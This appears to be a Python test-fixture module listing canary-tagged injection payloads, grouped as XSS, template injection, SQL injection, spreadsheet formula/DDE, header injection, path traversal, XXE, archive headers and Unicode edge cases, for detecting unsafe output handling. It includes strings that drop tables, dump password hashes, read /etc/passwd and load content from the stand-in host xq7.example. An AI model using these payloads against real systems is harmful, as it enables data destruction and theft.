"""Text that attacks whoever shows it. Every payload bears the mark `xq7`, by which what came out is known again."""

from __future__ import annotations

MARK, PRODUCT = "xq7", "63749"
_SUM = "1301*49"
PAYLOADS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>xq7()</script>", "<xq7 onmouseover=xq7()>", '"><xq7>', "' xq7=1 onfocus='xq7()", "`><img src=x onerror=xq7()>",
        "</title><xq7>", "</textarea><xq7>", "</script><xq7>", "<!--<xq7>-->", "]]><xq7>", "<svg/onload=xq7()>", "<math><xq7></math>",
        "<iframe src=javascript:xq7()>", "<base href=//xq7.example>", '<meta http-equiv="refresh" content="0;url=//xq7.example">',
        "<link rel=stylesheet href=//xq7.example>", "<form action=//xq7.example><button>", "javascript:xq7()", "java\tscript:xq7()",
        "data:text/html,<xq7>", "&lt;xq7&gt;", "&#60;xq7&#62;", "\\u003cxq7\\u003e", "%3Cxq7%3E", "＜xq7＞",
        "<style>@import '//xq7.example'</style>", "<a href=javascript:xq7()>xq7</a>", "<img src=//xq7.example/x>",
        "<xq7 style=position:fixed>", "<noscript><p title='</noscript><xq7>'>",
    ),
    "template": (
        f"{{{{{_SUM}}}}} xq7", f"${{{_SUM}}} xq7", f"#{{{_SUM}}} xq7", f"<%= {_SUM} %> xq7", f"{{% print {_SUM} %}} xq7",
        f"@({_SUM}) xq7", "{{config}} xq7", "{{''.__class__.__mro__}} xq7", "%(xq7)s %s %n", "{0.__class__} {xq7}", "{# xq7 #}",
        "{% raw %}xq7",
    ),
    "sql": (
        "xq7' OR '1'='1", "xq7'; DROP TABLE referral; --", "xq7\" OR 1=1 --", "xq7') UNION SELECT password_hash FROM account --",
        "xq7%' ESCAPE '", "xq7_%", "xq7\\'; SELECT pg_sleep(9) --", "xq7/**/OR/**/1=1", "$$xq7$$", ":xq7 ?1 %s", "xq7*\" NEAR(",
        "\"xq7",
    ),
    "formula": (
        "=1+1+xq7", "+xq7", "-xq7+cmd|' /C calc'!A0", "@SUM(xq7)", "\t=xq7", "=HYPERLINK(\"http://xq7.example\",\"x\")", "=xq7|'!A1",
        "＝xq7",
    ),
    "header": (
        "xq7\r\nX-Xq7: 1", "xq7\nSet-Cookie: xq7=1", "xq7%0d%0aX-Xq7:1", "xq7\u2028X-Xq7: 1", "xq7\r\nBcc: xq7@xq7.example",
        "xq7\r\n\r\n<xq7>", "xq7\x85X-Xq7: 1", "xq7嘊嘍X-Xq7: 1",
    ),
    "path": (
        "../../../../etc/passwd xq7", "..\\..\\xq7", "file:///etc/passwd#xq7", "/proc/self/environ xq7", "%2e%2e%2fxq7", "xq7\x00.pdf",
        "//xq7.example/x", "C:\\xq7", "\\\\xq7.example\\x", "xq7.pdf\".exe",
    ),
    "xml": (
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x> xq7', "<?xml version='1.0'?><xq7/>", "<![CDATA[<xq7>]]>",
        '<xi:include href="file:///etc/passwd" parse="text"/>xq7', "&xq7;", '<svg xmlns="http://www.w3.org/2000/svg"><xq7/></svg>',
        '<?xml-stylesheet href="//xq7.example"?>', '<!ENTITY % xq7 SYSTEM "//xq7.example">%xq7;',
    ),
    "archive": (
        "PK\x03\x04xq7", "\x1f\x8b\x08xq7", "%PDF-1.7 xq7 /JavaScript (xq7)", "Rar!\x1a\x07xq7", "ustar xq7", "BZh91AY&SYxq7", "MZxq7",
        "#!/bin/xq7",
    ),
    "unicode": (
        "xq7\u202egnp.exe", "\u2066xq7\u2069", "xq7\u200b\u200c\u200d\ufeff", "xq7\x00x", "x\u0301" + "\u0300" * 200 + "xq7",
        "\ud800xq7", "ＸＱ7 ﬁ ﷺ xq7", "xq7" + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20, "İıſK xq7", "xq7" + "W" * 600,
        "xq7" + "﷽" * 40, "\u2028xq7\u2029", "xq7\ufffe\uffff", "\U000e0041xq7\U000e007f", "xq7\u3164\u115f", "ⓧⓠ➆ xq7", "\u0600xq7",
        "xq7\u061c", "xq7\u180e", "xq7\ufff9a\ufffab\ufffb",
    ),
}  # fmt: skip
ALL = [payload for payloads in PAYLOADS.values() for payload in payloads]
